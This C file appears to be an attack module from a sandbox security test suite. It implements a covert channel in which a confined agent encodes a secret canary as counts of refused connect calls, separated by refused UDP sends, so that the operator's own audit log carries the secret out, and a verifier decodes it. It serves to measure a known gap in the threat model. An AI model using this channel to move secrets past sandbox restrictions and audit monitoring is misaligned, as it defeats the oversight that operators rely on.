// SPDX-License-Identifier: (LGPL-2.1 OR BSD-2-Clause)
/* audit_record_count [open] - mncd's audit log as the way out, by which records there are: the
 * tainted agent spells each hex digit d of the canary as d + 1 refused connects to an
 * unregistered TCP port, then one refused UDP sendto as a separator. Nothing in a record is its
 * value any more (tokens salted afresh), but how many records of which hook exist, and when, is
 * its choice: docs/threat-model.md ("Records about agents") bounds it by the per-agent record
 * budget (20 a second, burst 200; beyond it records are folded into a power-of-two count), at
 * most about 10^3 bits/s, and lists it as open. This attack measures it: the canary needs at
 * most 12 * 17 = 204 records, about the burst.
 * Verifier: the operator's `mncctl audit tail 10000`: the coordinator's kernel.deny records since
 * the attack began, connect4 records counted between sendmsg4 records.
 * What would close it: not recording denials one by one at all (only periodic coarse counts),
 * which leaves the same choice at a lower rate. */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <time.h>

#include "atk.h"
#include "atk_variants.h"

static int prepare(struct atk_ctx *c)
{
    c->slot[0] = atkv_now_ms();
    return 0;
}

static int agent(struct atk_ctx *c)
{
    struct timespec t0, t1;
    clock_gettime(CLOCK_MONOTONIC, &t0);
    for (int i = 0; i < 12; i++) {
        char h = c->secret[2 + i];
        int d = h <= '9' ? h - '0' : h - 'a' + 10;
        for (int k = 0; k <= d; k++) {
            int s = socket(AF_INET, SOCK_STREAM, 0);
            struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(9), .sin_addr.s_addr = htonl(0x7f000001)};
            if (s >= 0) {
                if (connect(s, (struct sockaddr *)&a, sizeof(a)) == 0)
                    atk_note(c, "connect allowed");
                close(s);
            }
        }
        int u = socket(AF_INET, SOCK_DGRAM, 0);
        struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(9), .sin_addr.s_addr = htonl(0x7f000001)};
        if (u >= 0) {
            if (sendto(u, "x", 1, 0, (struct sockaddr *)&a, sizeof(a)) == 1)
                atk_note(c, "sendto allowed");
            close(u);
        }
    }
    clock_gettime(CLOCK_MONOTONIC, &t1);
    atk_note(c, "48 bits in %ld ms of refused calls",
             (long)((t1.tv_sec - t0.tv_sec) * 1000 + (t1.tv_nsec - t0.tv_nsec) / 1000000));
    return 0;
}

struct dec {
    char d[64];
    int k, run;
};

static void one(struct atk_ctx *c, const char *r, size_t len, void *arg)
{
    (void)c;
    struct dec *x = arg;
    if (!memmem(r, len, "\"sender\":\"coordinator\"", 22))
        return;
    if (memmem(r, len, "hook\\\":\\\"connect4", 17))
        x->run++;
    else if (memmem(r, len, "hook\\\":\\\"sendmsg4", 17)) {
        if (x->run >= 1 && x->run <= 16 && x->k < 60)
            x->d[x->k++] = "0123456789abcdef"[x->run - 1];
        x->run = 0;
    }
}

static void count_folded(struct atk_ctx *c, const char *r, size_t len, void *arg)
{
    (void)c;
    *(int *)arg += memmem(r, len, "\"sender\":\"coordinator\"", 22) != NULL;
}

static void verify(struct atk_ctx *c)
{
    struct dec x = {.k = 0};
    int folded = 0;
    atkv_records(c, c->slot[0], "kernel.deny", one, &x);
    atkv_records(c, c->slot[0], "audit.folded", count_folded, &folded);
    x.d[x.k] = 0;
    if (strstr(x.d, c->canary + 2))
        atk_evidence(c, "the number of kernel.deny records between separators spells the canary (%s)", x.d);
    atk_note(c, "decoded \"%s\"; %d audit.folded record(s)", x.d, folded);
}

static const struct atk A = {"audit_record_count",
                             "how many refused-call records there are, between separators, in the audit log",
                             ATK_NO_CONTROL | ATK_OPEN,
                             prepare,
                             agent,
                             NULL,
                             verify,
                             NULL};
ATK_MAIN(A)
